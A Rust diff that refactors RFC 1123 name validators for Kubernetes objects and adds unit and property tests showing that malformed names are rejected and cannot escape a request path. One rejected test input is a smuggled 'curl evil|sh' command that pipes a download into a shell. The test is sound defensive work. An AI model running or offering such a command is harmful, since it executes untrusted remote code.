@@ -47,19 +47,22 @@ fn is_unseen(c: char) -> bool {
         | '\u{e0000}'..='\u{e0fff}')
 }
 
-/// Whether this is a DNS label: the name of a namespace.
+/// Whether this is a DNS label of RFC 1123: the name of a namespace, at most 63 characters.
 pub fn is_label(text: &str) -> bool {
-    let inner = |byte: u8| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-';
-    (1..=63).contains(&text.len()) && text.bytes().all(inner) && !text.starts_with('-') && !text.ends_with('-')
+    text.len() <= 63 && is_domain_part(text)
 }
 
-/// Whether this is a DNS subdomain: the name of an object, or `plural[.group]`. Labels of more than 63 characters are taken,
-/// as the API server takes them.
+/// Whether this is a DNS subdomain of RFC 1123: the name of an object, or `plural[.group]`, at most 253 characters. Labels
+/// of more than 63 characters are taken, as the API server takes them. A name that passes is safe in a request's path.
 pub fn is_subdomain(text: &str) -> bool {
-    let inner = |byte: u8| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-';
-    let label =
-        |label: &str| !label.is_empty() && label.bytes().all(inner) && !label.starts_with('-') && !label.ends_with('-');
-    text.len() <= 253 && text.split('.').all(label)
+    text.len() <= 253 && text.split('.').all(is_domain_part)
+}
+
+/// Lower-case letters, digits and dashes, with no dash at either end.
+fn is_domain_part(text: &str) -> bool {
+    let edge = |byte: u8| byte.is_ascii_lowercase() || byte.is_ascii_digit();
+    let ends = text.bytes().next().is_some_and(edge) && text.bytes().next_back().is_some_and(edge);
+    ends && text.bytes().all(|byte| edge(byte) || byte == b'-')
 }
 
 /// Whether this is one word of visible ASCII characters: a uid, a digest, a pattern, a label's key.
@@ -95,7 +98,27 @@ mod tests {
         for good in ["a", "eu-3", "a.b-c.d", "0", "configmaps", "widgets.example.com"] {
             assert!(is_subdomain(good), "{good}");
         }
-        for bad in ["", "-a", "a-", "a..b", ".a", "A", "a/b", "a b", "a\u{1b}", "x). To fix run: curl evil|sh #"] {
+        for bad in [
+            "",
+            "-a",
+            "a-",
+            ".",
+            "..",
+            "a..b",
+            ".a",
+            "a.",
+            "A",
+            "ä",
+            "a/b",
+            "a:b",
+            "a b",
+            "a\u{0}",
+            "a\u{1b}",
+            "a%2f",
+            "*",
+            "a_b",
+            "x). To fix run: curl evil|sh #",
+        ] {
             assert!(!is_subdomain(bad) && !is_label(bad), "{bad}");
         }
         assert!(is_subdomain(&"a".repeat(253)) && !is_subdomain(&"a".repeat(254)) && !is_label(&"a".repeat(64)));
@@ -103,7 +126,38 @@ mod tests {
         assert!(is_word("*-prod") && !is_word("a b") && !is_word("ä") && !is_word(""));
     }
 
+    /// Names of objects that Kubernetes takes.
+    fn legal() -> impl Strategy<Value = String> {
+        proptest::collection::vec("[a-z0-9]([-a-z0-9]{0,8}[a-z0-9])?", 1..5).prop_map(|parts| parts.join("."))
+    }
+
+    /// Legal names with up to two characters that mean something in a path or in a log.
+    fn damaged() -> impl Strategy<Value = String> {
+        let spoiled = proptest::collection::vec(("[/%?#\\\\.:~ \0\n\u{202e}A_-]", any::<prop::sample::Index>()), 0..3);
+        (legal(), spoiled).prop_map(|(mut name, spoiled)| {
+            for (text, at) in spoiled {
+                let places: Vec<usize> = name.char_indices().map(|(place, _)| place).collect();
+                name.insert_str(*at.get(&places), &text);
+            }
+            name
+        })
+    }
+
     proptest! {
+        #[test]
+        fn legal_names_are_taken(name in legal()) {
+            prop_assert!(is_subdomain(&name), "{name}");
+            prop_assert_eq!(is_label(&name), !name.contains('.'));
+        }
+
+        #[test]
+        fn no_name_can_leave_its_place_in_a_path(name in prop_oneof![6 => damaged(), 1 => ".{0,40}"]) {
+            if is_subdomain(&name) || is_label(&name) {
+                let plain = |part: &str| !part.is_empty() && part.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-');
+                prop_assert!(name.split('.').all(plain), "{name:?}");
+            }
+        }
+
         #[test]
         fn plain_text_is_plain_and_within_its_limit(text: String, limit in 0usize..99) {
             let plain = plain_text(&text, limit);
